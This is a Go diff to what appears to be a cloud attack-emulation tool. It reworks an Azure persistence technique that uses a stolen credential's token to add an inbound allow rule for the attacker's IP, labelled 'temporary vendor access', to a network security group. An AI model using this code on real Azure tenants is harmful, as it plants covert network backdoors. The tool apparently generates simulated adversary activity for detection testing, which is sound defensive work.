@@ -154,40 +154,33 @@ func listAssignments(ctx context.Context, opts *arm.ClientOptions, sub, scope st
 // inbound rule for the attacker's address to the NSG in front of its
 // foothold.
 func azureBackdoorNSG() *Technique {
-	return backdoorRule(CloudAzure, AzureBackdoorNSG, "Microsoft.Network/networkSecurityGroups/write",
+	return backdoorRule(CloudAzure, AzureBackdoorNSG, azureRuleWrite,
 		[]ParamSpec{{Name: "priority", Kind: KindInt, Default: "105", Doc: "rule priority (lower wins)"}},
 		func(ctx context.Context, env *Env, t *Target, hold *Holding, c *Credential, p Params) (planted, error) {
 			nsgID := hold.Facts["network_security_group"]
 			rule := fmt.Sprintf("AllowMgmt-%s", env.ShortID())
-			rg := t.Prop("resource_group")
-			nsgs, err := armnetwork.NewSecurityGroupsClient(t.Account, bearer{c.Token}, azureOptions(env.Clock, t, env.Caller()))
-			var cur armnetwork.SecurityGroupsClientGetResponse
+			// One rule added as 'az network nsg rule create' adds it: a PUT
+			// of the rule alone, which the Activity Log names.
+			rules, err := armnetwork.NewSecurityRulesClient(t.Account, bearer{c.Token}, azureOptions(env.Clock, t, env.Caller()))
 			if err == nil {
-				cur, err = nsgs.Get(ctx, rg, armName(nsgID), nil)
+				// The simulator applies the PUT on the initial request and
+				// answers it terminal, so there is nothing to poll.
+				_, err = rules.BeginCreateOrUpdate(ctx, t.Prop("resource_group"), armName(nsgID), rule, armnetwork.SecurityRule{
+					Properties: &armnetwork.SecurityRulePropertiesFormat{
+						Priority: to.Ptr(int32(p.Int("priority"))), Direction: to.Ptr(armnetwork.SecurityRuleDirectionInbound),
+						Access: to.Ptr(armnetwork.SecurityRuleAccessAllow), Protocol: to.Ptr(armnetwork.SecurityRuleProtocolTCP),
+						SourceAddressPrefix: to.Ptr(env.SourceIP + "/32"), SourcePortRange: to.Ptr("*"),
+						DestinationAddressPrefix: to.Ptr("*"), DestinationPortRange: to.Ptr(fmt.Sprint(p.Int("port"))),
+						Description: to.Ptr("temporary vendor access"),
+					}}, nil)
 			}
-			if rerr := env.Record(Action{Technique: AzureBackdoorNSG, Operation: "Microsoft.Network/networkSecurityGroups/read",
-				Resource: nsgID, Cloud: CloudAzure, Credential: c.Label}, err); rerr != nil {
-				return planted{done: true}, rerr
-			}
-			nsg := cur.SecurityGroup
-			if nsg.Properties == nil {
-				nsg.Properties = &armnetwork.SecurityGroupPropertiesFormat{}
-			}
-			nsg.Properties.SecurityRules = append(nsg.Properties.SecurityRules, &armnetwork.SecurityRule{
-				Name: to.Ptr(rule), Properties: &armnetwork.SecurityRulePropertiesFormat{
-					Priority: to.Ptr(int32(p.Int("priority"))), Direction: to.Ptr(armnetwork.SecurityRuleDirectionInbound),
-					Access: to.Ptr(armnetwork.SecurityRuleAccessAllow), Protocol: to.Ptr(armnetwork.SecurityRuleProtocolTCP),
-					SourceAddressPrefix: to.Ptr(env.SourceIP + "/32"), SourcePortRange: to.Ptr("*"),
-					DestinationAddressPrefix: to.Ptr("*"), DestinationPortRange: to.Ptr(fmt.Sprint(p.Int("port"))),
-					Description: to.Ptr("temporary vendor access"),
-				}})
-			// The simulator applies the PUT on the initial request and
-			// answers it terminal, so there is nothing to poll.
-			_, err = nsgs.BeginCreateOrUpdate(ctx, rg, armName(nsgID), nsg, nil)
 			return planted{rule: nsgID + "/securityRules/" + rule, what: "NSG rule " + rule, resource: nsgID,
 				detail: map[string]string{"rule": rule}}, err
 		})
 }
+
+// azureRuleWrite is the operation that adds an NSG rule.
+const azureRuleWrite = "Microsoft.Network/networkSecurityGroups/securityRules/write"
 
 // routineAzure is an application's ordinary ARM reads of the web tier.
 func routineAzure() *Technique {
